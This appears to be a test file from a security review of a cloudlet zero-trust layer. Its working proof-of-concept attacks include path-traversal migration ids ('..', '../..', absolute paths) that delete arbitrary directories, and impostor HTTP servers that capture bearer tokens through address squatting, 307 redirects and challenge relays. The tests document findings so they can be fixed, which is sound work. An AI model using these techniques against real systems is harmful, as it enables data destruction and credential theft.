@@ -1,0 +1,379 @@
+"""A security review of the zero-trust layer, as attacks with real processes.
+
+Each test is an attack. A test that *passes* here shows the attack WORKS against
+the current code (the holes found in review); the docstring names the finding
+(F1, F2, ...) in the review report and what a fix must change. When a hole is
+closed, its test fails: turn it around into a test that the attack is refused.
+
+Real processes throughout: `cloudlet agent` daemons (tests/daemons.py), a real
+`cloudlet up` metro where the broker matters, and plain HTTP servers playing the
+attacker's endpoints.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import http.server
+import json
+import socket
+import threading
+import time
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+from urllib.parse import parse_qs, urlsplit
+
+import aiohttp
+import pytest
+
+from cloudlet.migration import run_source
+from cloudlet.trust import peer_tokens
+from cloudlet.vm import VM, ImageStore
+from edge_agent.live_migration import WebSocketChannel
+from mobile_client import CloudletClient
+from tests.conftest import WORKLOADS
+from tests.daemons import Daemon, cloudlet_identity, make_daemon
+
+KVSTORE = WORKLOADS / "kvstore.wasm"
+
+
+# --- helpers ---------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def daemons() -> Iterator[list[Daemon]]:
+    started: list[Daemon] = []
+    yield started
+    for d in started:
+        d.kill()
+
+
+def start(d: Daemon, started: list[Daemon]) -> Daemon:
+    started.append(d)
+    return d.start()
+
+
+def wait_until(predicate: Callable[[], bool], timeout_s: float = 15.0) -> bool:
+    deadline = time.monotonic() + timeout_s
+    while time.monotonic() < deadline:
+        if predicate():
+            return True
+        time.sleep(0.05)
+    return predicate()
+
+
+@dataclass
+class Recorder:
+    """An HTTP server outside the cluster: records every request; `respond` decides the
+    answer (default: 200 with a health-like JSON body, as a naive impostor would)."""
+
+    respond: Callable[[str, str, dict[str, str]], tuple[int, dict[str, str], bytes]] | None = None
+    requests: list[tuple[str, str, dict[str, str]]] = field(default_factory=list)
+    port: int = 0
+
+    @property
+    def endpoint(self) -> str:
+        return f"http://127.0.0.1:{self.port}"
+
+    def credentials_seen(self) -> list[str]:
+        return [h["Authorization"] for _, _, h in self.requests if "Authorization" in h]
+
+
+def serve(record: Recorder, port: int = 0) -> http.server.ThreadingHTTPServer:
+    class Handler(http.server.BaseHTTPRequestHandler):
+        protocol_version = "HTTP/1.1"
+
+        def _any(self) -> None:
+            record.requests.append((self.command, self.path, dict(self.headers)))
+            length = int(self.headers.get("Content-Length") or 0)
+            if length:
+                self.rfile.read(length)
+            if record.respond is not None:
+                status, headers, body = record.respond(self.command, self.path,
+                                                       dict(self.headers))
+            else:
+                status, headers, body = 200, {"Content-Type": "application/json"}, json.dumps(
+                    {"status": "ok", "node": "impostor"}).encode()
+            self.send_response(status)
+            for k, v in headers.items():
+                self.send_header(k, v)
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        do_GET = do_POST = do_DELETE = _any
+
+        def log_message(self, *args: Any) -> None:
+            pass
+
+    class Server(http.server.ThreadingHTTPServer):
+        allow_reuse_address = True
+
+    server = Server(("127.0.0.1", port), Handler)
+    record.port = server.server_address[1]
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    return server
+
+
+@pytest.fixture
+def recorders() -> Iterator[Callable[..., Recorder]]:
+    servers: list[http.server.ThreadingHTTPServer] = []
+
+    def make(respond: Any = None, port: int = 0) -> Recorder:
+        record = Recorder(respond)
+        servers.append(serve(record, port))
+        return record
+
+    yield make
+    for s in servers:
+        s.shutdown()
+        s.server_close()
+
+
+def local_vm(tmp: Path, owner: str = "mallory") -> tuple[VM, bytes]:
+    """A VM run by the attacker itself (no cloudlet needed to make one)."""
+    wasm = KVSTORE.read_bytes()
+    image = ImageStore(tmp / "attacker-images").add(wasm)
+    vm = VM.create(image, owner=owner)
+    vm.call("kv_put", 1, 99)
+    return vm, wasm
+
+
+async def migrate_in(target: Daemon, token: str, vm: VM, wasm: bytes,
+                     migration_id: str) -> str:
+    """Act as a source cloudlet: live-migrate `vm` into `target` over its peer route,
+    with a migration id of the attacker's choosing. Returns the outcome."""
+    async with aiohttp.ClientSession() as http:
+        async with http.ws_connect(f"{target.endpoint}/v1/peer/migrate",
+                                   params={"endpoint": "http://127.0.0.1:9"},
+                                   headers={"Authorization": f"Bearer {token}"},
+                                   max_msg_size=64 << 20) as ws:
+            stats = await run_source(vm, WebSocketChannel(ws), migration_id=migration_id,
+                                     image_wasm=wasm, deadline_s=20.0)
+    return stats.outcome
+
+
+# --- F1: a peer's migration id is a path ------------------------------------------------------
+
+
+def test_f1_a_peer_migration_id_deletes_any_directory_on_the_destination(
+        tmp_path: Path, daemons: list[Daemon]) -> None:
+    """F1 (high). The live-migration destination uses the source's `migration_id`
+    unchecked as a directory name: `STATE/incoming/<migration_id>`. It writes the
+    rounds there, and `shutil.rmtree`s it when the migration ends (at once on an
+    abort, one checkpoint interval after a commit). `Path(incoming) / "/abs/dir"` is
+    `/abs/dir`, and `..` walks up. So any holder of a peer token for a cloudlet (a
+    compromised cloudlet, which the threat model says "signs only as itself") makes
+    that cloudlet delete any directory its user can: here one outside the cloudlet
+    (absolute path), one next to it (`../..`), and the victim's own state directory
+    (`..`: its node key, its certificate and every client's VM checkpoints)."""
+    campus = start(make_daemon(tmp_path, "campus"), daemons)
+    alice = campus.token("alice")
+    status, body = campus.request("POST", "/v1/images", raw=KVSTORE.read_bytes(), token=alice)
+    assert status == 201, body
+    status, body = campus.request("POST", "/v1/vms", {"image": body["digest"]}, token=alice)
+    assert status == 201, body
+    alices_vm = body["vm"]
+    assert wait_until(lambda: (campus.state_dir / "vms" / f"{alices_vm}.snap").exists())
+
+    # Directories the attacker wants gone. Each holds a file, to show it is real data.
+    absolute = tmp_path / "elsewhere" / "precious"
+    relative = tmp_path / "beside-the-cloudlet"
+    for d in (absolute, relative):
+        d.mkdir(parents=True)
+        (d / "data.txt").write_text("irreplaceable")
+
+    # The attacker: a cloudlet of the cluster (its own key and certificate), nothing more.
+    mallory = cloudlet_identity(campus.cluster_dir, "mallory")
+    for migration_id in (str(absolute), "../../beside-the-cloudlet"):
+        vm, wasm = local_vm(tmp_path)
+        token = peer_tokens.mint(mallory, "campus")
+        assert asyncio.run(migrate_in(campus, token, vm, wasm, migration_id)) == "committed"
+    assert wait_until(lambda: not absolute.exists() and not relative.exists()), campus.log()
+
+    # `..`: the cloudlet's own state directory.
+    assert (campus.state_dir / "node.key").exists()
+    vm, wasm = local_vm(tmp_path)
+    assert asyncio.run(migrate_in(campus, peer_tokens.mint(mallory, "campus"), vm, wasm,
+                                  "..")) == "committed"
+    # Everything under it goes: the node's key and config, Alice's checkpoint, the log.
+    assert wait_until(lambda: not campus.state_dir.exists()
+                      or not any(campus.state_dir.rglob("*")))
+    assert not (campus.state_dir / "node.key").exists()
+    assert not (campus.state_dir / "vms" / f"{alices_vm}.snap").exists()
+
+
+def test_f1b_a_peer_vm_id_is_a_path_too(tmp_path: Path, daemons: list[Daemon]) -> None:
+    """F1b (medium). A VM id that arrives from a peer (a handed-over snapshot on
+    `POST /v1/peer/vms`, or a live migration's Offer) is used unchecked in
+    `STATE/vms/<id>.snap`: a peer writes a checkpoint (VM memory it chose) to any
+    `*.snap` path the daemon's user can write, and a destroy unlinks it."""
+    import dataclasses
+
+    campus = start(make_daemon(tmp_path, "campus"), daemons)
+    token = peer_tokens.mint(cloudlet_identity(campus.cluster_dir, "mallory"), "campus")
+    vm, wasm = local_vm(tmp_path)
+    assert campus.request("POST", "/v1/images", raw=wasm, token=token)[0] == 201
+    target = tmp_path / "outside-the-cloudlet" / "planted"
+    target.parent.mkdir()
+    snap = dataclasses.replace(vm.snapshot(), vm_id=str(target))
+    status, body = campus.request("POST", "/v1/peer/vms", raw=snap.to_bytes(), token=token)
+    assert status == 201, body
+    assert body["vm"] == str(target)
+    assert Path(f"{target}.snap").exists()  # written outside STATE/vms
+
+
+# --- F2: a proof is cached by address; F3: a proof follows redirects -------------------------
+
+
+def test_f2_a_squatter_on_a_proven_address_gets_the_token_without_a_challenge(
+        tmp_path: Path, daemons: list[Daemon],
+        recorders: Callable[..., Recorder]) -> None:
+    """F2 (medium). The SDK remembers a proof per *address* for PROOF_TTL_S (300 s)
+    and does not forget it when the connection fails. The cloudlet dies; anything
+    that binds its address within five minutes (another process on a shared host,
+    a reassigned IP) gets the client's bearer token on the next request, with no
+    challenge at all. (transport.py says "a squatter on an old address ... gets no
+    token"; docs/security.md says tokens go only to endpoints that proved themselves.)"""
+    harbor = start(make_daemon(tmp_path, "harbor"), daemons)
+    token = harbor.token("victim")
+
+    async def scenario() -> Recorder:
+        async with CloudletClient(token, endpoints=[harbor.endpoint]) as client:
+            first = await client.offload(KVSTORE, "kv_put", (1, 5))
+            assert first.where == "harbor"
+            harbor.kill()  # the cloudlet dies (or moves away)...
+            squatter = recorders(port=harbor.port)  # ...and something else takes its port
+            with pytest.raises(Exception):  # noqa: B017 - whatever the SDK makes of it
+                await client.offload(KVSTORE, "kv_put", (1, 6))
+            return squatter
+
+    squatter = asyncio.run(scenario())
+    assert f"Bearer {token}" in squatter.credentials_seen()
+    # ...and no challenge was asked first: the token was the first thing it saw.
+    assert not any("challenge=" in path for _, path, _ in squatter.requests)
+
+
+def test_f3_a_plain_redirect_passes_the_identity_proof_and_gets_the_token(
+        tmp_path: Path, daemons: list[Daemon],
+        recorders: Callable[..., Recorder]) -> None:
+    """F3 (medium). Every HTTP client here follows redirects (aiohttp's default), the
+    proof request included. An endpoint that is not a cloudlet answers
+    `GET /health?challenge=X` with `307 Location: <any real cloudlet>/health?challenge=X`;
+    aiohttp follows, the real cloudlet signs the challenge, and the SDK records the
+    *impostor's* address as proven. The next request takes the bearer token to the
+    impostor. No relay code, no key: one redirect. (An endpoint list, a squatter on
+    an old address, or F4's unproven `vm_moved` all put such a URL in front of the SDK;
+    `test_the_sdk_sends_no_token_to_an_endpoint_that_is_not_a_cloudlet` only tries a
+    server that answers 200.)"""
+    harbor = start(make_daemon(tmp_path, "harbor"), daemons)
+    token = harbor.token("victim")
+
+    def respond(method: str, path: str, headers: dict[str, str]
+                ) -> tuple[int, dict[str, str], bytes]:
+        if path.startswith("/health"):
+            return 307, {"Location": harbor.endpoint + path}, b""
+        return 500, {"Content-Type": "application/json"}, b'{"code": "internal_error"}'
+
+    impostor = recorders(respond)
+
+    async def scenario() -> None:
+        async with CloudletClient(token, endpoints=[impostor.endpoint]) as client:
+            with pytest.raises(Exception):  # noqa: B017
+                await client.offload(KVSTORE, "kv_put", (1, 5))
+
+    asyncio.run(scenario())
+    assert f"Bearer {token}" in impostor.credentials_seen()
+    assert ("POST", "/v1/vms") in [(m, p) for m, p, h in impostor.requests
+                                   if "Authorization" in h]
+
+
+def test_f3b_a_redirecting_endpoint_gets_a_vm_and_a_peer_token_from_a_cloudlet(
+        tmp_path: Path, daemons: list[Daemon],
+        recorders: Callable[..., Recorder]) -> None:
+    """F3b (medium). The same on the daemon side (`PeerClient.prove` follows redirects):
+    a named endpoint that only redirects its `/health` to a real cloudlet (harbor)
+    receives the VM's whole snapshot and a peer token for harbor, which then opens
+    harbor's peer routes for a minute (every VM of every client; F1 on harbor).
+    Here the operator names the endpoint (a typo, a stale address); a squatter on
+    the address of a cloudlet whose signed presence is still fresh gets the same."""
+    import msgpack
+
+    downtown = start(make_daemon(tmp_path, "downtown"), daemons)
+    harbor = start(make_daemon(tmp_path, "harbor"), daemons)
+    alice = downtown.token("alice")
+    status, body = downtown.request("POST", "/v1/images", raw=KVSTORE.read_bytes(), token=alice)
+    digest = body["digest"]
+    status, body = downtown.request("POST", "/v1/vms", {"image": digest}, token=alice)
+    vm = body["vm"]
+    assert downtown.request("POST", f"/v1/vms/{vm}/call", {"fn": "kv_put", "args": [7, 1234]},
+                            token=alice)[0] == 200
+
+    def respond(method: str, path: str, headers: dict[str, str]
+                ) -> tuple[int, dict[str, str], bytes]:
+        if path.startswith("/health"):
+            return 307, {"Location": harbor.endpoint + path}, b""
+        if path == "/v1/images":
+            return 200, {"Content-Type": "application/msgpack"}, msgpack.packb(
+                {"images": [digest]})
+        return 500, {"Content-Type": "application/msgpack"}, msgpack.packb(
+            {"code": "internal_error", "message": "x"})
+
+    impostor = recorders(respond)
+    status, body = downtown.request("POST", f"/v1/vms/{vm}/migrate",
+                                    {"endpoint": impostor.endpoint, "mode": "stop_and_copy"},
+                                    token=downtown.operator_token())
+    assert ("POST", "/v1/peer/vms") in [(m, p) for m, p, _ in impostor.requests]
+    stolen = impostor.credentials_seen()[-1].removeprefix("Bearer ")
+    # The token the impostor was given opens harbor's peer routes.
+    status, body = harbor.request("GET", "/v1/peer/vms", token=stolen)
+    assert status == 200, body
+
+
+def relay_to(real: str) -> Callable[[str, str, dict[str, str]], tuple[int, dict[str, str], bytes]]:
+    """An attacker's endpoint that fetches `/health` (with the challenge) from a real
+    cloudlet and answers with it: the "identity, not address" relay."""
+    import urllib.request
+
+    def respond(method: str, path: str, headers: dict[str, str]
+                ) -> tuple[int, dict[str, str], bytes]:
+        if path.startswith("/health"):
+            with urllib.request.urlopen(real + path, timeout=5) as resp:
+                return 200, {"Content-Type": "application/json"}, resp.read()
+        return 500, {"Content-Type": "application/json"}, b'{"code": "internal_error"}'
+    return respond
+
+
+def test_f4_an_unproven_endpoint_steers_the_sdk_with_vm_moved(
+        tmp_path: Path, daemons: list[Daemon],
+        recorders: Callable[..., Recorder]) -> None:
+    """F4 (low-medium). Before it sends a token the SDK asks the endpoint's `/health`,
+    unauthenticated; an error answer to that is turned into the daemon's typed error,
+    and `VMMoved` is *followed* (`attach`, `Session._find_vm`, `Http.delete_vm`). So a
+    server that proved nothing (a squatter, a stale list entry) chooses where the SDK
+    goes next, and the node name it expects there. docs/security.md: relays need an
+    address "placed there by the cluster itself" (signed presence, signed locations,
+    the operator, a cloudlet's own answers); this is none of those. Pointed at a relay,
+    the token follows."""
+    harbor = start(make_daemon(tmp_path, "harbor"), daemons)
+    token = harbor.token("victim")
+    relay = recorders(relay_to(harbor.endpoint))
+
+    def moved(method: str, path: str, headers: dict[str, str]
+              ) -> tuple[int, dict[str, str], bytes]:
+        body = {"code": "vm_moved", "message": "moved",
+                "details": {"vm": "x", "node": "harbor", "endpoint": relay.endpoint}}
+        return 410, {"Content-Type": "application/json"}, json.dumps(body).encode()
+
+    squatter = recorders(moved)
+
+    async def scenario() -> None:
+        async with CloudletClient(token, endpoints=[harbor.endpoint]) as client:
+            with pytest.raises(Exception):  # noqa: B017
+                async with client.attach("0123456789abcdef", squatter.endpoint):
+                    pass
+
+    asyncio.run(scenario())
+    assert squatter.credentials_seen() == []  # it only answered an unauthenticated /health
+    assert f"Bearer {token}" in relay.credentials_seen()
